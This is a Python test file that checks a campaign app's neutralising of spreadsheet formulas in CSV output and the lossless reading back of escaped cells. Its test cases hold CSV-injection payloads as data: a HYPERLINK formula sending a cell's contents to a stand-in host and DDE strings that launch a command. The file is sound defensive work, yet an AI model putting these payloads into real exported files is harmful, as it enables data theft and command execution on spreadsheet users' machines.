"""CSV injection: what the program's CSV files for a spreadsheet hold, and what reading
them back gives.

A cell a spreadsheet would run as a formula gets a leading apostrophe; a plain negative
number is left as it is (it runs nothing, and is a number); a phone number keeps the
apostrophe (without it a spreadsheet drops its plus). Reading takes away exactly the
apostrophe that was added, so every text comes back as it was.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campaign_app.core.common.formulas import neutralise, runs_as_formula, unneutralise


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+380 44 123 4567", "'+380 44 123 4567"),  # a phone number: kept whole as text
        ("+380441234567", "'+380441234567"),
        ("  =1+1", "'  =1+1"),
        ("\tTabbed", "'\tTabbed"),
        ("\r\n=1", "'\r\n=1"),
        ("＝1+1", "'＝1+1"),
        ("'=already quoted", "''=already quoted"),  # one more: the one taken away on reading
        ("-12", "-12"),  # a negative number: read as the number it is
        ("-3.5", "-3.5"),
        ("-3,5", "-3,5"),
        ("  -7", "  -7"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("'tis", "'tis"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("Šimečka", "Šimečka"),
        ("", ""),
    ],
)
def test_a_cell_is_written_so_that_no_spreadsheet_runs_it(cell, written):
    assert neutralise(cell) == written
    assert not runs_as_formula(written)
    assert unneutralise(written) == cell


TRICKY = st.text(alphabet="'= +-@\t\r\n1.,aＡ＝|!(", max_size=8)


@settings(max_examples=500, deadline=None)
@given(cell=st.one_of(TRICKY, st.text(max_size=12)))
def test_reading_back_gives_every_text_as_it_was(cell):
    written = neutralise(cell)
    assert not runs_as_formula(written)
    assert unneutralise(written) == cell
    assert written in (cell, "'" + cell)
